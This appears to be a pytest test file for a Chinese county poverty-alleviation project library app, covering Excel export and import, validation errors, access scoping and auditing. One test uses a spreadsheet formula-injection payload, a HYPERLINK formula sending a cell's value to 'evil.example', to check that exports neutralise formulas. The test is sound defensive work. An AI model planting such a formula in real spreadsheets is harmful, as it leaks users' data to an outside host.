"""P14: the project library workbook — the export in the county officers' layout (fund sources as columns in
exact 万元, 绩效目标 as three columns, no household named) and the import of an existing library workbook
(row-level Chinese errors, nothing stored while any row is wrong, all rows or none, the same workbook twice
stores its projects once). Both databases."""

from __future__ import annotations

import datetime
import io
from typing import Any

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from tests.conftest import COUNTY, OTHER_COUNTY_VILLAGE, SAME_TOWNSHIP_VILLAGE, VILLAGE
from tests.factories import make_user
from tests.projects.builders import project_input, project_users, sector_user, to_library
from zhenxing.accounts.enums import Role
from zhenxing.audit.models import AuditEvent
from zhenxing.common import clock
from zhenxing.common.errors import Conflict, InvalidInput
from zhenxing.common.xlsx import Workbook, single_sheet
from zhenxing.projects import imports, services
from zhenxing.projects.models import (
    LibraryImportRow,
    PrefectureBatch,
    Project,
    ProjectAttachment,
    ProjectNotice,
    ProjectNoticeEntry,
    ProjectObjection,
    ProjectStep,
)
from zhenxing.projects.workbook import COLUMNS

pytestmark = pytest.mark.django_db
HEADERS = [column.header for column in COLUMNS]


def _sheet(content: bytes) -> list[list[Any]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return book.get_sheet_by_name(book.sheet_names[0]).to_python()


def _by_header(rows: list[list[Any]]) -> list[dict[str, Any]]:
    header = [str(cell) for cell in rows[1]]
    return [dict(zip(header, row, strict=False)) for row in rows[2:]]


def _day(value: Any) -> datetime.date:
    return value.date() if isinstance(value, datetime.datetime) else value


def _errors(batch: Any) -> dict[tuple[int, str], str]:
    """(Excel row, column) → its messages."""
    found: dict[tuple[int, str], str] = {}
    for error in batch.errors:
        key = (error["row"], error["column"])
        found[key] = f"{found[key]}；{error['message']}" if key in found else error["message"]
    return found


def _book(
    rows: list[dict[str, Any]], *, title: str = "南涧彝族自治县2025年度巩固拓展脱贫攻坚成果项目库"
) -> bytes:
    """A workbook the way a county keeps it: a title row, the header, one row per project, an extra column."""
    book = Workbook()
    sheet = book.add_sheet("项目库")
    sheet.cell(0, 0, title)
    headers = [*HEADERS, "备注"]
    sheet.row(1, 0, headers)
    for index, row in enumerate(rows, start=2):
        sheet.row(index, 0, [row.get(header) for header in headers])
    return book.finish()


def _row(**changes: Any) -> dict[str, Any]:
    """A road project of 西山村 in the library since before this system (在建, decided last year)."""
    today = clock.today()
    row: dict[str, Any] = {
        "项目名称": "西山村委会大村组道路硬化", "项目年度": today.year, "项目类别（大类）": "乡村建设行动",
        "项目子类": "道路", "项目层级": "村级", "县(市)": "南涧彝族自治县", "乡(镇)": "南涧镇", "行政村": "西山村委会",
        "自然村": "大村组", "建设内容": "硬化村组道路", "建设规模": "2.5公里，宽4.5米", "实施单位": "南涧镇人民政府",
        "计划开工": today - datetime.timedelta(days=30), "计划完工": today + datetime.timedelta(days=200),
        "计划总投资（万元）": 120.5, "中央财政衔接资金（万元）": 100, "县级财政衔接资金（万元）": 20.5,
        "绩效目标（产出指标）": "新建硬化道路长度：≥2.5公里", "绩效目标（效益指标）": "受益脱贫人口：≥120人",
        "绩效目标（满意度指标）": "受益群众满意度：≥90%", "到户项目": "否", "是否应急": "否", "状态": "在建",
        "审定日期": today - datetime.timedelta(days=60), "备注": "老台账",
    }  # fmt: skip
    row.update(changes)
    return row


def _county_user() -> Any:
    return make_user(Role.COUNTY, COUNTY, username="p_import")


def _wipe_projects() -> None:
    """The test's own clean-up: the county's library gone, as in a county that has not entered it yet."""
    ProjectAttachment.objects.all().delete()
    ProjectObjection.objects.all().delete()
    ProjectNoticeEntry.objects.all().delete()
    ProjectNotice.objects.all().delete()
    ProjectStep.objects.all().delete()
    Project.objects.filter(previous__isnull=False).delete()
    Project.objects.all().delete()
    PrefectureBatch.objects.all().delete()


def test_p14_export_writes_the_library_in_the_officers_layout_with_exact_amounts(
    shipped_data, clock_at, client: Client
):
    # given a project of 120.5 万元 (100 central + 20.5 county) in the library, and a fresh proposal
    users = project_users()
    project = to_library(services.project_propose(actor=users["village"], data=project_input()), users)
    services.project_propose(actor=users["village"], data=project_input(name="西山村饮水管网改造"))
    client.force_login(users["county"])
    # when the county exports 在库
    response = client.get("/projects/export.xlsx", {"status": "in_library", "county": COUNTY})
    # then one row, in the layout, amounts exact
    assert response.status_code == 200
    rows = _sheet(response.content)
    assert "项目库" in rows[0][0]
    assert rows[1][: len(HEADERS)] == HEADERS
    (row,) = _by_header(rows)
    assert row["项目编号"] == project.code and row["项目名称"] == "西山村委会大村组道路硬化"
    assert row["计划总投资（万元）"] == 120.5
    assert row["中央财政衔接资金（万元）"] == 100 and row["县级财政衔接资金（万元）"] == 20.5
    assert row["省级财政衔接资金（万元）"] in ("", None)
    assert (row["项目类别（大类）"], row["项目子类"], row["项目层级"]) == ("乡村建设行动", "道路", "村级")
    assert (row["县(市)"], row["乡(镇)"], row["行政村"], row["自然村"]) == (
        "南涧彝族自治县",
        "南涧镇",
        "西山村委会",
        "大村组",
    )
    assert row["绩效目标（产出指标）"] == "新建硬化道路长度：≥2.5公里"
    assert row["绩效目标（满意度指标）"] == "受益群众满意度：≥90%"
    assert row["状态"] == "储备" and _day(row["审定日期"]) == project.decided_on
    assert row["到户项目"] == "否" and row["是否应急"] == "否"
    # and the default (current versions) has the proposal too; the export is audited
    everything = _by_header(_sheet(client.get("/projects/export.xlsx").content))
    assert {r["状态"] for r in everything} == {"储备", "村申报"}
    event = AuditEvent.objects.filter(action="project.export").order_by("pk").first()
    assert (
        event is not None
        and event.new_values["projects"] == 1
        and event.new_values["filters"]["status"] == "in_library"
    )


def test_p14_export_is_scoped_and_a_village_sees_only_its_own(shipped_data, clock_at, client: Client):
    users = project_users()
    services.project_propose(actor=users["village"], data=project_input())
    services.project_propose(
        actor=users["county"], data=project_input(name="团山村道路", places=[(SAME_TOWNSHIP_VILLAGE, "")])
    )
    client.force_login(make_user(Role.VILLAGE, SAME_TOWNSHIP_VILLAGE, username="tuanshan"))
    names = [r["项目名称"] for r in _by_header(_sheet(client.get("/projects/export.xlsx").content))]
    assert names == ["团山村道路"]
    client.force_login(make_user(Role.PREFECTURE, "5329", username="zhou"))
    rows = _sheet(client.get("/projects/export.xlsx", {"county": COUNTY}).content)
    assert rows[0][0].startswith("南涧彝族自治县项目库") and len(rows) == 4
    client.force_login(make_user(Role.DEPARTMENT, username="dept"))
    assert client.get("/projects/export.xlsx").status_code == 403


def test_p14_exported_library_imports_again_into_an_empty_county(shipped_data, clock_at, client: Client):
    # given the county's library exported, then the library gone (a county entering its old workbook)
    users = project_users()
    project = to_library(services.project_propose(actor=users["village"], data=project_input()), users)
    code, decided_on = project.code, project.decided_on
    client.force_login(users["county"])
    content = client.get("/projects/export.xlsx").content
    _wipe_projects()
    # when the county imports it and confirms
    batch = imports.library_import_stage(actor=users["county"], file_name="项目库.xlsx", data=content)
    assert batch.status == "validated", batch.errors
    assert batch.summary["to_add"] == 1
    imports.library_import_confirm(actor=users["county"], batch=batch)
    # then the same project, at its state, with its number, money, targets and places
    again = Project.objects.get()
    assert (again.code, again.status, again.decided_on, again.level) == (
        code,
        "reserved",
        decided_on,
        "village",
    )
    assert again.total_fen == 120_500_000 and again.division.code == VILLAGE
    assert {f.source: f.amount_fen for f in again.fundings.all()} == {
        "central": 100_000_000,
        "county": 20_500_000,
    }
    assert {(t.kind, t.indicator, t.target_value) for t in again.targets.all()} == {
        ("output", "新建硬化道路长度", "≥2.5公里"), ("benefit", "受益脱贫人口", "≥120人"),
        ("satisfaction", "受益群众满意度", "≥90%"),
    }  # fmt: skip
    (place,) = again.places.select_related("natural_village")
    assert place.village.code == VILLAGE and place.natural_village.name == "大村组"
    (step,) = again.steps.all()
    assert step.action == "导入" and step.outcome == "reserved"
    assert AuditEvent.objects.filter(action="project.import", target_id=str(again.pk)).exists()
    assert AuditEvent.objects.filter(action="project_import.commit", target_id=str(batch.pk)).exists()
    assert not LibraryImportRow.objects.exists()
    # and exported again, the row reads the same
    again_rows = _by_header(_sheet(client.get("/projects/export.xlsx").content))
    assert [r["项目编号"] for r in again_rows] == [code]


def test_p14_bad_rows_each_get_a_chinese_error_naming_row_and_column_and_nothing_is_stored(
    shipped_data, clock_at
):
    # given a workbook: one good row and five bad ones
    user = _county_user()
    today = clock.today()
    rows = [
        _row(),
        _row(项目名称="负数金额", **{"计划总投资（万元）": -5}),
        _row(项目名称="七位小数", **{"中央财政衔接资金（万元）": 100.1234567}),
        _row(项目名称="完工早于开工", 计划完工=today - datetime.timedelta(days=90)),
        _row(项目名称="外县的村", 行政村=OTHER_COUNTY_VILLAGE, 自然村="", **{"乡(镇)": ""}),
        _row(项目名称="缺满意度", **{"绩效目标（满意度指标）": ""}),
    ]
    # when it is uploaded
    batch = imports.library_import_stage(actor=user, file_name="有错.xlsx", data=_book(rows))
    # then each bad row has its error, by its Excel row number (title row 1, header row 2, data from row 3)
    errors = _errors(batch)
    assert batch.status == "invalid"
    assert "不能为负数" in errors[(4, "计划总投资（万元）")]
    assert "最多精确到分" in errors[(5, "中央财政衔接资金（万元）")]
    assert "不能早于计划开工" in errors[(6, "计划完工")]
    assert "不在您的管辖范围内" in errors[(7, "行政村")]
    assert "满意度指标" in errors[(8, "绩效目标（满意度指标）")]
    assert not [e for e in batch.errors if e["row"] == 3]
    # and nothing is stored, nothing staged; the upload is audited
    assert not Project.objects.exists() and not LibraryImportRow.objects.exists()
    event = AuditEvent.objects.get(action="project_import.stage", target_id=str(batch.pk))
    assert event.new_values["status"] == "invalid" and event.new_values["error_count"] == len(batch.errors)
    with pytest.raises(Conflict):
        imports.library_import_confirm(actor=user, batch=batch)


def test_p14_unreadable_names_and_a_file_without_the_header_are_refused_in_chinese(shipped_data, clock_at):
    user = _county_user()
    batch = imports.library_import_stage(
        actor=user, file_name="x.xlsx",
        data=_book([_row(行政村="不存在村", 项目子类="修路", 计划开工="三月", 项目层级="省级"), _row(状态="乡审核")]),
    )  # fmt: skip
    errors = _errors(batch)
    assert "没有名为“不存在村”的行政村" in errors[(3, "行政村")]
    assert "项目类别目录中没有" in errors[(3, "项目子类")]
    assert "应为日期" in errors[(3, "计划开工")]
    assert "“省级”无效" in errors[(3, "项目层级")]
    # a row in approval is not imported, and the preview says so
    assert [(w["row"], w["column"]) for w in batch.warnings] == [(4, "状态")]
    assert "不是在库状态" in batch.warnings[0]["message"] and batch.summary["skipped"] == 1
    with pytest.raises(InvalidInput, match="中没有数据行"):
        imports.library_import_stage(actor=user, file_name="y.xlsx", data=_book([], title="空表"))
    with pytest.raises(InvalidInput, match="找不到项目库表头"):
        imports.library_import_stage(
            actor=user, file_name="z.xlsx", data=single_sheet("台账", ["户主", "人口"], [("张三", 3)])
        )


def test_p14_the_same_workbook_imported_twice_stores_its_projects_once(shipped_data, clock_at):
    # given a county's workbook of two projects without numbers (its own old numbering left out)
    user = _county_user()
    rows = [
        _row(),
        _row(项目名称="团山村灌溉沟渠", 行政村="团山村委会", 自然村="", 状态="", 项目编号="NJ-2023-07"),
    ]
    content = _book(rows)
    # when it is staged twice before either is confirmed, and both are confirmed
    first = imports.library_import_stage(actor=user, file_name="a.xlsx", data=content)
    second = imports.library_import_stage(actor=user, file_name="a.xlsx", data=content)
    assert first.summary["to_add"] == 2 and second.summary["to_add"] == 2
    assert any("重新编号" in w["message"] for w in first.warnings)
    imports.library_import_confirm(actor=user, batch=first)
    second = imports.library_import_confirm(actor=user, batch=second)
    # then the projects are stored once; the second import found them in the library
    assert Project.objects.count() == 2 and second.summary["added"] == 0
    statuses = dict(Project.objects.values_list("name", "status"))
    assert statuses == {"西山村委会大村组道路硬化": "building", "团山村灌溉沟渠": "reserved"}
    assert all(
        code.startswith(f"{COUNTY}{clock.today().year}")
        for code in Project.objects.values_list("code", flat=True)
    )
    # and a third upload previews nothing to add
    third = imports.library_import_stage(actor=user, file_name="a.xlsx", data=content)
    assert third.summary["to_add"] == 0 and third.summary["unchanged_rows"] == 2
    assert AuditEvent.objects.filter(action="project.import").count() == 2
    with pytest.raises(Conflict):
        imports.library_import_confirm(actor=user, batch=first)  # confirmed already


def test_p14_a_sector_department_imports_only_its_own_categories(shipped_data, clock_at):
    user = sector_user("water")
    batch = imports.library_import_stage(actor=user, file_name="w.xlsx", data=_book([_row()]))
    assert batch.status == "invalid"
    assert any("不是本部门的行业" in e["message"] and e["column"] == "项目子类" for e in batch.errors)


def test_p14_import_pages_for_the_county_and_refused_to_a_village(shipped_data, clock_at, client: Client):
    user = _county_user()
    client.force_login(user)
    assert client.get("/projects/import/").status_code == 200
    upload = io.BytesIO(_book([_row(), _row(项目名称="负数", **{"计划总投资（万元）": -1})]))
    upload.name = "有错.xlsx"
    response = client.post("/projects/import/", {"file": upload})
    assert response.status_code == 302
    page = client.get(response["Location"])
    text = page.content.decode()
    assert (
        page.status_code == 200
        and "第4行" in text
        and "计划总投资不能为负数" in text
        and "确认导入" not in text
    )
    errors = client.get(response["Location"] + "errors.xlsx")
    assert errors.status_code == 200 and any(
        "不能为负数" in str(c) for r in _sheet(errors.content) for c in r
    )
    good = io.BytesIO(_book([_row()]))
    good.name = "好.xlsx"
    location = client.post("/projects/import/", {"file": good})["Location"]
    assert "确认导入" in client.get(location).content.decode()
    done = client.post(location + "confirm/", follow=True)
    assert "已导入 1 个项目" in done.content.decode() and Project.objects.count() == 1
    client.force_login(make_user(Role.VILLAGE, VILLAGE, username="cun2"))
    assert client.get("/projects/import/").status_code == 403
    assert client.get(location).status_code == 404


def test_p14_several_villages_and_an_emergency_project_read_back_the_same(
    shipped_data, clock_at, client: Client
):
    # given a county project over two villages with their natural villages, and an emergency one, imported
    user = _county_user()
    rows = [
        _row(项目名称="两村连通道路", 项目层级="县级部门", 行政村="西山村委会、团山村委会",
             自然村="西山村委会/大村组、团山村委会/新村组、团山村委会/老村组", 实施单位="县交通运输局"),
        _row(项目名称="水毁道路抢修", 项目层级="县级部门", 是否应急="是", 应急类型="灾情",
             应急理由="7月暴雨冲毁道路，须抢修", 状态="开工"),
    ]  # fmt: skip
    batch = imports.library_import_stage(actor=user, file_name="两村.xlsx", data=_book(rows))
    assert batch.status == "validated", batch.errors
    imports.library_import_confirm(actor=user, batch=batch)
    both = Project.objects.get(name="两村连通道路")
    places = {
        (p.village.code, p.natural_village.name)
        for p in both.places.select_related("village", "natural_village")
    }
    assert places == {
        (VILLAGE, "大村组"),
        (SAME_TOWNSHIP_VILLAGE, "新村组"),
        (SAME_TOWNSHIP_VILLAGE, "老村组"),
    }
    assert both.level == "county" and both.division.code == COUNTY
    emergency = Project.objects.get(name="水毁道路抢修")
    assert (emergency.emergency, emergency.emergency_kind, emergency.status) == (True, "disaster", "started")
    # when exported, the cells read as they were written
    client.force_login(user)
    exported = {r["项目名称"]: r for r in _by_header(_sheet(client.get("/projects/export.xlsx").content))}
    assert exported["两村连通道路"]["行政村"] == "西山村委会、团山村委会"
    assert exported["两村连通道路"]["自然村"] == "西山村委会/大村组、团山村委会/新村组、团山村委会/老村组"
    assert (exported["水毁道路抢修"]["是否应急"], exported["水毁道路抢修"]["应急类型"]) == ("是", "灾情")
    # and the export imported again changes nothing
    content = client.get("/projects/export.xlsx").content
    again = imports.library_import_stage(actor=user, file_name="再导入.xlsx", data=content)
    assert (
        again.status == "validated" and again.summary["to_add"] == 0 and again.summary["unchanged_rows"] == 2
    )


def test_p14_a_name_that_looks_like_a_formula_goes_out_as_text_and_comes_back_unchanged(
    shipped_data, clock_at, client: Client
):
    import re
    import zipfile

    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    user = _county_user()
    batch = imports.library_import_stage(actor=user, file_name="f.xlsx", data=_book([_row(项目名称=payload)]))
    imports.library_import_confirm(actor=user, batch=batch)
    assert Project.objects.get().name == payload  # the quote our workbook put in front is taken off
    client.force_login(user)
    content = client.get("/projects/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(re.search(r"<f[ >]", archive.read(n).decode()) for n in sheets)
    (row,) = _by_header(_sheet(content))
    assert row["项目名称"] == "'" + payload
    # and the exported file is the same project again
    assert (
        imports.library_import_stage(actor=user, file_name="g.xlsx", data=content).summary["unchanged_rows"]
        == 1
    )


def test_p14_a_household_project_cannot_come_in_from_a_workbook(shipped_data, clock_at):
    user = _county_user()
    batch = imports.library_import_stage(actor=user, file_name="h.xlsx", data=_book([_row(到户项目="是")]))
    errors = _errors(batch)
    assert "到户项目须列出受益农户" in errors[(3, "到户项目")] and "在系统中申报" in errors[(3, "到户项目")]


def test_p14_the_audit_page_names_an_imported_projects_fund_sources(shipped_data, clock_at, client: Client):
    user = _county_user()
    batch = imports.library_import_stage(actor=user, file_name="a.xlsx", data=_book([_row()]))
    imports.library_import_confirm(actor=user, batch=batch)
    client.force_login(user)
    text = client.get("/audit/", {"action": "project.import"}).content.decode()
    assert "中央财政衔接资金：120500000" not in text  # amounts by source, not the total
    assert "中央财政衔接资金：100000000" in text and "县级财政衔接资金：20500000" in text
    assert "central" not in text and "项目库导入：a.xlsx 第3行" in text


def test_p14_a_number_kept_from_the_workbook_but_taken_before_confirming_gets_the_next_one(
    shipped_data, clock_at
):
    # given a workbook row numbered in this system's format, staged
    user = _county_user()
    number = f"{COUNTY}{clock.today().year}0001"
    batch = imports.library_import_stage(actor=user, file_name="n.xlsx", data=_book([_row(项目编号=number)]))
    assert batch.status == "validated" and not batch.warnings
    # when a village's proposal takes that number before the import is confirmed
    proposal = services.project_propose(actor=project_users()["village"], data=project_input(name="新申报"))
    assert proposal.code == number
    imports.library_import_confirm(actor=user, batch=batch)
    # then the imported project has the next number, and both are there
    assert Project.objects.get(name="西山村委会大村组道路硬化").code == f"{COUNTY}{clock.today().year}0002"
